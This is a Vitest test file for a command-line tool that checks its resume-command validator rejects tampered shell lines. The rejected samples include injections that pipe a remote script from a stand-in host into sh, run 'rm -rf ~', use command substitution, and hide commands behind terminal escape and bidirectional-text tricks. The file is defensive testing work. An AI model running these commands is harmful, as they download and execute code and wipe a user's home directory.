// Resume lines read back from benchmark.json are shown as advice only when they are exactly what cdmm writes.
import { describe, expect, it } from 'vitest';
import { parseShellLine, safeCdmmLine, shellLine } from '../src/util/shell.js';

describe('shell lines', () => {
  it('parse back into the arguments they were written from, quotes included', () => {
    for (const args of [['cdmm', 'benchmark', 'a b/spec.yaml', '--out', "it's", '--resume'], ['cdmm', 'x'], ['a=b,c:d@e%f+g']]) {
      expect(parseShellLine(shellLine(args))).toEqual(args);
    }
  });

  it('a stored resume line is shown only when cdmm could have written it', () => {
    const ok = shellLine(['cdmm', 'benchmark', '/data/my spec.yaml', '--out', 'b', '--seeds', '3', '--resume']);
    expect(safeCdmmLine(ok, 'benchmark')).toBe(ok);
    for (const bad of [
      'cdmm benchmark x --resume && curl -s http://e.example/x.sh | sh',
      'cdmm benchmark x --resume; rm -rf ~',
      'cdmm benchmark $(id) --resume',
      'cdmm benchmark  x --resume', // two spaces: not shellLine's
      "cdmm benchmark 'x\r\u001b[2Kcurl evil.sh | sh #' --resume", // a carriage return and an erase-line escape
      "cdmm benchmark 'a\u202eemuser--' --resume", // a bidirectional override
      'cdmm benchmark x --overwrite --resume',
      'cdmm benchmark x',
      'cdmm train x --resume',
      'rm benchmark x --resume',
    ])
      expect(safeCdmmLine(bad, 'benchmark'), bad).toBeUndefined();
    expect(safeCdmmLine(42, 'benchmark')).toBeUndefined();
  });
});
